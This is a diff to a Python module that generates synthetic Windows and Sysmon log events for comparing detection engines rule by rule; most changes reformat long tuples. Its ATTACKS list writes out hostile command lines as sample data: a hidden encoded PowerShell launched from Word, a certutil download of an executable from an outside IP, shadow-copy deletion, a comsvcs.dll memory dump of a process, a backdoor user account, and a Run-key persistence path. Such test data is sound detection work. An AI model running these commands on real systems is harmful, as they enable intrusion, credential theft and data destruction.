@@ -4,6 +4,8 @@
 that its own values suggest, so that two engines can be compared rule by rule.
 """
 
+# ruff: noqa: E501 - command lines are long
+
 from __future__ import annotations
 
 import json
@@ -25,25 +27,93 @@ AGENTS = (
     "okhttp/4.12.0",
 )
 HOSTS = ("www.gu.example", "mail.gu.example", "portal.city.example", "cdn.news.example", "api.weather.example", "update.vendor.example")
-PAGES = ("/", "/board/list.do?page={n}", "/board/view.do?id={n}", "/static/js/main.{n}.js", "/images/banner_{n}.png", "/login", "/api/v1/notices/{n}")
+PAGES = (
+    "/",
+    "/board/list.do?page={n}",
+    "/board/view.do?id={n}",
+    "/static/js/main.{n}.js",
+    "/images/banner_{n}.png",
+    "/login",
+    "/api/v1/notices/{n}",
+)
 PROGRAMS = (
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", r"C:\Windows\System32\services.exe", "svchost.exe"),
-    (r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding", r"C:\Windows\System32\svchost.exe", "RuntimeBroker.exe"),
-    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ko --num-raster-threads=2 --renderer-client-id={n} --mojo-platform-channel-handle=3344', r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe"),
-    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r'"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\user{n}\Documents\budget {n}.xlsx"', r"C:\Windows\explorer.exe", "Excel.exe"),
-    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"C:\Windows\System32\cmd.exe", "CONHOST.EXE"),
-    (r"C:\Windows\System32\cmd.exe", r'C:\Windows\system32\cmd.exe /c "C:\Scripts\backup_{n}.bat"', r"C:\Windows\System32\svchost.exe", "Cmd.Exe"),
-    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -NoLogo -File C:\Scripts\inventory.ps1 -Site {n}", r"C:\Windows\System32\svchost.exe", "PowerShell.EXE"),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
+        r"C:\Windows\System32\services.exe",
+        "svchost.exe",
+    ),
+    (
+        r"C:\Windows\System32\RuntimeBroker.exe",
+        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
+        r"C:\Windows\System32\svchost.exe",
+        "RuntimeBroker.exe",
+    ),
+    (
+        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ko --num-raster-threads=2 --renderer-client-id={n} --mojo-platform-channel-handle=3344',
+        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+        "chrome.exe",
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
+        r'"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\user{n}\Documents\budget {n}.xlsx"',
+        r"C:\Windows\explorer.exe",
+        "Excel.exe",
+    ),
+    (
+        r"C:\Windows\System32\conhost.exe",
+        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
+        r"C:\Windows\System32\cmd.exe",
+        "CONHOST.EXE",
+    ),
+    (
+        r"C:\Windows\System32\cmd.exe",
+        r'C:\Windows\system32\cmd.exe /c "C:\Scripts\backup_{n}.bat"',
+        r"C:\Windows\System32\svchost.exe",
+        "Cmd.Exe",
+    ),
+    (
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"powershell.exe -NoLogo -File C:\Scripts\inventory.ps1 -Site {n}",
+        r"C:\Windows\System32\svchost.exe",
+        "PowerShell.EXE",
+    ),
     (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe SYSTEM", r"C:\Windows\System32\svchost.exe", "taskhostw.exe"),
-    (r"C:\Program Files (x86)\Hnc\Office 2022\HOffice120\Bin\Hwp.exe", r'"C:\Program Files (x86)\Hnc\Office 2022\HOffice120\Bin\Hwp.exe" "C:\Users\user{n}\Documents\공문 {n}.hwp"', r"C:\Windows\explorer.exe", "Hwp.exe"),
-    (r"C:\Windows\System32\SearchProtocolHost.exe", r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646', r"C:\Windows\System32\SearchIndexer.exe", "SearchProtocolHost.exe"),
+    (
+        r"C:\Program Files (x86)\Hnc\Office 2022\HOffice120\Bin\Hwp.exe",
+        r'"C:\Program Files (x86)\Hnc\Office 2022\HOffice120\Bin\Hwp.exe" "C:\Users\user{n}\Documents\공문 {n}.hwp"',
+        r"C:\Windows\explorer.exe",
+        "Hwp.exe",
+    ),
+    (
+        r"C:\Windows\System32\SearchProtocolHost.exe",
+        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646',
+        r"C:\Windows\System32\SearchIndexer.exe",
+        "SearchProtocolHost.exe",
+    ),
 )
 ATTACKS = (
     (r"C:\Windows\System32\whoami.exe", "whoami /all", r"C:\Windows\System32\cmd.exe", "whoami.exe"),
-    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "PowerShell.EXE"),
-    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe", r"C:\Windows\System32\cmd.exe", "CertUtil.exe"),
+    (
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
+        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+        "PowerShell.EXE",
+    ),
+    (
+        r"C:\Windows\System32\certutil.exe",
+        "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
+        r"C:\Windows\System32\cmd.exe",
+        "CertUtil.exe",
+    ),
     (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe", "VSSADMIN.EXE"),
-    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Temp\l.dmp full", r"C:\Windows\System32\cmd.exe", "RUNDLL32.EXE"),
+    (
+        r"C:\Windows\System32\rundll32.exe",
+        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Temp\l.dmp full",
+        r"C:\Windows\System32\cmd.exe",
+        "RUNDLL32.EXE",
+    ),
     (r"C:\Windows\System32\net.exe", "net user helpdesk P@ssw0rd! /add", r"C:\Windows\System32\cmd.exe", "net.exe"),
 )
 ATTACK_PAGES = (
@@ -168,7 +238,11 @@ def _process(chance: random.Random, number: int, attack: bool) -> Event:
 
 
 def _registry(chance: random.Random, number: int, attack: bool) -> Event:
-    key = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater" if attack else rf"HKU\S-1-5-21-{number % 90}\Software\App\Recent\{number}"
+    key = (
+        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater"
+        if attack
+        else rf"HKU\S-1-5-21-{number % 90}\Software\App\Recent\{number}"
+    )
     return {
         "EventID": 13,
         "Provider_Name": "Microsoft-Windows-Sysmon",
@@ -235,7 +309,11 @@ def _fill(event: Event, node: Node) -> None:
 def _value(test: object) -> Any:
     match test:
         case Pattern(parts):
-            return "".join(part if isinstance(part, str) else "q" if part is Wild.ONE else "" for part in parts).encode("utf-8", "replace").decode()
+            return (
+                "".join(part if isinstance(part, str) else "q" if part is Wild.ONE else "" for part in parts)
+                .encode("utf-8", "replace")
+                .decode()
+            )
         case Number(value) | Boolean(value):
             return value
         case Compare(relation, value):
